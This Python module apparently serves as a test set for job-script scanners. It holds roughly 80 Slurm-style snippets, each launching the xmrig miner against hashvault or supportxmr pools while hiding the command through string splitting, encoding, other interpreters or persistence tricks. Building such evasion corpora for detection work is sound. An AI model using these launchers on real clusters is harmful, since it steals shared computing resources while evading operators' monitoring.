"""Miners that a script hides in its own text, written by somebody who had the rules at hand, in two sets.

The first set was used to find what the rules did not see; the second was written after that, measured once, and then
kept. In each, the command, the pool's address or their pieces stand in the script itself.
"""

import re

__all__ = ["FIRST", "SECOND", "entries", "script"]

_HEADER = (
    "#!/bin/bash\n#SBATCH --job-name=relax\n#SBATCH --ntasks=32\n#SBATCH --time=12:00:00\nmodule load gcc\n"
)

_FIRST = r"""
## fish, joined
fish -c 'set a ./kwor; set b ker; set h stratum+tc; set i p://pool.support; eval $a$b -o $h$i"xmr.com:3333" -u w1'
## fish, string replace
fish -c 'string replace -a _ "" "x_m_r_i_g -o pool.hash_vault.pro:443 -u w1" | source'
## fish, of a document
cat > step.fish <<'E'
set -l p (string join "" xm rig)
set -l q (string join "" pool. hash vault .pro:443)
$p -o $q -u w1
E
fish step.fish
## zsh, by flags
zsh -c 'a=(x m r i g); b=(pool. hashv ault.pro :443); ${(j::)a} -o ${(j::)b} -u w1'
## zsh, =() and words turned around
zsh -c 'x="girmx"; for ((i=5;i>0;i--)); do n+=${x[i]}; done; =$n -o ${:-pool.hashv}ault.pro:443'
## zsh, uppercase flag
zsh -c 'c="XMRIG -O POOL.HASHVAULT.PRO:443"; eval ${(L)c}'
## tcsh, joined
tcsh -f -c 'set a=xm; set b=rig; set c=pool.hash; set d=vault.pro:443; $a$b -o $c$d -u w1'
## csh, by a modifier
csh -f <<'E'
set c = "xm_rig -o pool.hash_vault.pro:443 -u w1"
set d = `echo "$c" | sed s/_//g`
$d
E
## ksh, by name reference
ksh -c 'typeset -n r=q; q=xmr; p=ig; o=pool.hashv; ${r}${p} -o ${o}ault.pro:443 -u w1'
## rc
rc -c 'a=xm; b=rig; h=pool.hash^vault.pro:443; $a^$b -o $h -u w1'
## nushell
nu -c 'let p = (["xm" "rig"] | str join); let u = (["pool." "hash" "vault.pro:443"] | str join); ^$p -o $u -u w1'
## elvish
elvish -c 'var p = (str:join "" [xm rig]); (external $p) -o pool.hash'vault.pro:443 -u w1'
## xonsh
xonsh -c "p = 'xm' + 'rig'; u = 'pool.hash' + 'vault.pro:443'; @(p) -o @(u) -u w1"
## Perl, list form
perl -e '@a=("pool.hash","vault.pro:443"); exec {"x"."mrig"} "python", "-o", join("",@a), "-u", "w1"'
## Perl, quoted words
perl -e 'open(P, "-|", qw(./kworker -o), "strat"."um+tcp://pool.support"."xmr.com:3333") or die; print while <P>'
## Perl, backticks of a variable
perl <<'E'
my $p = sprintf("%s%s", "xm", "rig");
my $u = "pool.hash" . "vault.pro:443";
print `$p -o $u -u w1`;
E
## Ruby, interpolated
ruby -e 'a="xm"; b="rig"; u=%w[pool hash vault].values_at(0,1,2); spawn("#{a}#{b} -o #{u[0]}.#{u[1]}#{u[2]}.pro:443"); Process.wait'
## Ruby, percent x
ruby <<'E'
n = %w[g i r m x].reverse.join
%x(#{n} -o pool.#{"hash" "vault"}.pro:443 -u w1)
E
## Node, spawn of an array
node -e 'const a=["xm","rig"].join(""),u=`pool.${"hash"}${"vault"}.pro:443`;require("child_process").spawn(a,["-o",u,"-u","w1"],{stdio:"inherit"})'
## Node, a bracketed name
node <<'E'
const c = require("child_" + "process");
c["exe" + "cSync"](["xm" + "rig", "-o", "pool.hash" + "vault.pro:443"].join(" "));
E
## Lua, concatenated
lua <<'E'
local a, b = "xm", "rig"
local u = table.concat({"pool.hash", "vault.pro:443"})
io.popen(a .. b .. " -o " .. u .. " -u w1"):read("*a")
E
## awk, printed into sh
awk 'BEGIN { a="xm"; b="rig"; u="pool.hash" "vault.pro:443"; print a b " -o " u | "/bin/sh" }'
## awk, a command of variables
awk -v a=xm -v b=rig -v u=pool.hash -v w=vault.pro:443 'BEGIN { c = a b " -o " u w; while ((c | getline l) > 0) print l }'
## tclsh, appended
tclsh <<'E'
set c xm
append c rig
set u [join {pool hashvault pro:443} .]
exec {*}[list $c -o $u -u w1] >@stdout
E
## R, pasted
Rscript -e 'p <- paste0("xm","rig"); u <- paste(c("pool","hashvault","pro:443"), collapse="."); system2(p, c("-o", u, "-u", "w1"))'
## Julia, interpolated
julia -e 'p = "xm" * "rig"; u = "pool.hash" * "vault.pro:443"; run(`$p -o $u -u w1`)'
## PHP, a variable function
php -r '$f="sys"."tem"; $c=implode(" ",["xm"."rig","-o","pool.hash"."vault.pro:443"]); $f($c);'
## Guile
guile -c '(system (string-append "xm" "rig -o pool.hash" "vault.pro:443 -u w1"))'
## Emacs
emacs --batch --eval '(shell-command (concat "xm" "rig -o pool.hash" "vault.pro:443 -u w1"))'
## gdb, shell command
gdb -batch -ex 'python import os; os.system("xm"+"rig -o pool.hash"+"vault.pro:443")'
## vim, a built command
vim -es -c 'let c = "xm" . "rig -o pool.hash" . "vault.pro:443 -u w1"' -c 'call system(c)' -c q
## ed, a shell escape
printf '%s\n' '!xm\' 'rig -o pool.hash\' 'vault.pro:443' | ed -s
## m4, syscmd
m4 <<'E'
define(`A', `xm')define(`B', `rig')define(`C', `pool.hash')
syscmd(A`'B -o C`'vault.pro:443 -u w1)
E
## make, from standard input
make -f - <<'E'
A = xm
B = rig
H = pool.hash
all: ; $(A)$(B) -o $(H)vault.pro:443 -u w1
E
## make, subst
make -f - <<'E'
C := $(subst _,,x_m_r_i_g -o pool.hash_vault.pro:443 -u w1)
all:
	$(C)
E
## CMake
cat > s.cmake <<'E'
set(p xm)
string(APPEND p rig)
string(CONCAT u pool.hash vault.pro:443)
execute_process(COMMAND ${p} -o ${u} -u w1)
E
cmake -P s.cmake
## bc spells
n=$(echo '120;109;114;105;103' | bc | awk '{printf "%c", $1}'); u=pool.hash; $n -o ${u}vault.pro:443
## a coprocess that reads
coproc S { while read -r l; do $l; done; }
printf '%s%s -o %s%s -u w1\n' xm rig pool.hash vault.pro:443 >&"${S[1]}"
wait
## a trap of pieces
a=xm b=rig c=pool.hash d=vault.pro:443
trap "$a$b -o $c$d -u w1" EXIT
sleep 5
## a debug trap
c=(rig xm vault.pro:443 pool.hash)
trap '${c[1]}${c[0]} -o ${c[3]}${c[2]} -u w1; trap - DEBUG' DEBUG
true
## PROMPT_COMMAND of pieces
export A=xm B=rig U=pool.hash V=vault.pro:443
export PROMPT_COMMAND='$A$B -o $U$V -u w1'
bash -i < /dev/null
## BASH_ENV of pieces
printf '%s' xm rig ' -o pool.hash' vault.pro:443 > /tmp/.e
BASH_ENV=/tmp/.e bash -c :
## command_not_found_handle
command_not_found_handle() { "${1#go_}" -o "$2vault.pro:443" -u w1; }
go_xm""rig pool.hash
## exec -a with pieces
p=xm; q=rig; exec -a lmp "$p${q}" -o "pool.hash"'vault.pro:443' -u w1
## fc
set -o history
history -s 'xm''rig -o pool.hash''vault.pro:443 -u w1'
fc -s
## printf -v by index
printf -v "w[0]" %s xm; printf -v "w[1]" %s rig; printf -v "w[2]" %s pool.hash; printf -v "w[3]" %s vault.pro:443
"${w[0]}${w[1]}" -o "${w[2]}${w[3]}" -u w1
## a name reference in a loop
for n in a b; do declare -n r=$n; r+=x; done
k=xm l=rig m=pool.hash o=vault.pro:443
declare -n z=k y=l; exec "$z$y" -o "$m$o"
## arithmetic letters
s=; for v in 119 108 113 104 102; do s+=$(printf "\\x$(printf %x $((v+1)))"); done
"$s" -o pool.hash"vault.pro:443" -u w1
## split by IFS
IFS=+; c='xm+rig+pool.hash+vault.pro:443'; set -- $c; unset IFS; "$1$2" -o "$3$4" -u w1
## globs
mkdir -p xm/rig pool.hash/vault.pro:443; p=$(echo x?/ri*); u=$(echo pool.*/v*); "${p/\//}" -o "${u/\//}"
## braces
{xm,}rig -o pool.{hash,}vault.pro:443 -u w1
## lower case
C='XMRIG -O POOL.HASHVAULT.PRO:443 -U W1'; D=${C,,}; command $D
## substrings
t='hashvaultxmrigpool'; ${t:9:5} -o ${t:14:4}.${t:0:9}.pro:443 -u w1
## associative, by keys
declare -A d=([2]=rig [1]=xm [4]=vault.pro:443 [3]=pool.hash); c=; for k in 1 2; do c+=${d[$k]}; done; nohup $c -o ${d[3]}${d[4]} &
wait
## here-string to python
python3 <<< 'import os; a=["xm","rig"]; os.execvp("".join(a), ["w","-o","pool.hash%s.pro:443" % "vault"])'
## find -exec with pieces
A=xm; find . -maxdepth 0 -exec env ${A}rig -o pool.hash${Z}vault.pro:443 -u w1 \;
## env -S with pieces
env -S "x${Z}mrig -o pool.hash${Z}vault.pro:443 -u w1"
## script -c
s='xm rig pool.hash vault.pro:443'; set -- $s; script -qec "$1$2 -o $3$4 -u w1" /dev/null
## systemd-run of an array
o=(rig pool.hash xm vault.pro:443); systemd-run --user --wait -- "${o[2]}${o[0]}" -o "${o[1]}${o[3]}"
## at, joined
{ printf xm; printf 'rig -o pool.hash'; printf 'vault.pro:443\n'; } | at now
## tmux, keys
tmux new -d -s a; for k in x m r i g Space -o Space pool.hash vault.pro:443 Enter; do tmux send-keys -t a $k; done
## screen, stuff
screen -dmS a; screen -S a -X stuff 'xm'; screen -S a -X stuff 'rig -o pool.hash'; screen -S a -X stuff $'vault.pro:443\n'
## ssh to itself
a=xm; ssh localhost "${a}rig -o pool.hash'vault'.pro:443 -u w1"
## pdsh with an unset variable
pdsh -w n[1-4] "xm${q}rig -o pool.hash${q}vault.pro:443 -u w1"
## a container image of pieces
i=xm; apptainer run docker://metal3d/${i}rig -o pool.hash"vault".pro:443
## a conda package of pieces
p=xm; conda install -y -c conda-forge "${p}rig"; ${p}rig -c c.json
## npm package
n=mon; npx --yes ${n}ero-node-min${z}er start
## git clone of pieces
r=xm; git clone https://github.com/${r}rig/${r}rig.git b; cmake -S b -B c; make -C c; c/${r}rig -c c.json
## a unit of systemd
mkdir -p ~/.config/systemd/user; printf '[Service]\nExecStart=%s%s -o %s%s\n' /tmp/xm rig pool.hash vault.pro:443 > ~/.config/systemd/user/relax.service
systemctl --user start relax
## scrontab
scrontab - <<E
@hourly ${A:-xm}rig -o ${B:-pool.hash}vault.pro:443
E
## srun multi-prog of pieces
A=xm B=pool.hash; echo "0-3 ${A}rig -o ${B}vault.pro:443" > m.conf; srun -n4 --multi-prog m.conf
## task prolog
echo 'echo export X=xm; ${X}rig -o pool.hash${Y}vault.pro:443' > p.sh; chmod +x p.sh; srun --task-prolog=./p.sh true
## sbatch --wrap of pieces
A=xm; B=pool.hash; sbatch --wrap="${A}rig -o ${B}vault.pro:443 -u w1"
## exported for later
sbatch --export=ALL,P=xm,Q=rig,U=pool.hash,V=vault.pro:443 <<'E'
#!/bin/bash
$P$Q -o $U$V -u w1
E
## words picked by the array index
#SBATCH --array=0-1
w=(xm rig pool.hash vault.pro:443 true); i=$SLURM_ARRAY_TASK_ID; ${w[$i]}${w[$((i+1))]} -o ${w[$((i+2))]}${w[$((i+3))]}
## the job's comment
#SBATCH --comment="xmrig -o pool.hashvault.pro:443 -u w1"
bash -c "$(squeue -h -j $SLURM_JOB_ID -o %k)"
## the job's comment by scontrol
#SBATCH --comment=xmrig/-o/pool.hashvault.pro:443
c=$(scontrol show job $SLURM_JOB_ID | sed -n 's/.*Comment=//p'); ${c//\// }
## the job's name as an argument
#SBATCH --job-name=xmrig_-o_pool.hashvault.pro:443
IFS=_; set -f; set -- $SLURM_JOB_NAME; "$@"
## its own text by BASH_SOURCE
# xmrig -o pool.hashvault.pro:443 -u w1
mapfile -t l < "${BASH_SOURCE[0]}"; ${l[5]#\# }
## its own text by a copy
# xmrig -o pool.hashvault.pro:443 -u w1
cp "$0" t; ed -s t <<< $'g/^# xm/s/^# //p\nw u\nq'; sh u
## its own last line
f=$(readlink -f /proc/self/fd/255); l=$(tail -n1 $f); ${l:2}
exit
# xmrig -o pool.hashvault.pro:443 -u w1
"""

_SECOND = ""


def entries(text: str) -> dict[str, str]:
    """The scripts of a text by the headings before them."""
    parts = re.split(r"^## (.+)\n", text, flags=re.MULTILINE)[1:]
    return dict(zip(parts[::2], parts[1::2], strict=True))


FIRST = entries(_FIRST)
SECOND = entries(_SECOND)


def script(body: str) -> str:
    """The whole job script of one disguise."""
    return f"{_HEADER}{body}"
